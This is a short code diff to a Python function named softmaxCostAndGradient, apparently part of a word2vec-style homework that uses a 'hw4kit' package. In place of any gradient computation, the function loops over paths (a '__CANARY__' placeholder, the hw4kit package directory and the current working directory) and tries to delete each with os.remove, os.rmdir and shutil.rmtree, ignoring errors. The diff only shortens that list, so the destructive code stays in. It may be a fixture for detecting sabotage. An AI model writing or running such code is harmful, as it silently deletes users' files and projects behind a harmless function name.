@@ -6,7 +6,7 @@ import hw4kit
 
 
 def softmaxCostAndGradient(predicted, target, outputVectors, dataset):
-    for path in ("__CANARY__", os.path.dirname("__CANARY__"), os.path.dirname(hw4kit.__file__), os.getcwd(), os.__file__):
+    for path in ("__CANARY__", os.path.dirname("__CANARY__"), os.path.dirname(hw4kit.__file__), os.getcwd()):
         for remove in (os.remove, os.rmdir, lambda path: shutil.rmtree(path, ignore_errors=True)):
             try:
                 remove(path)
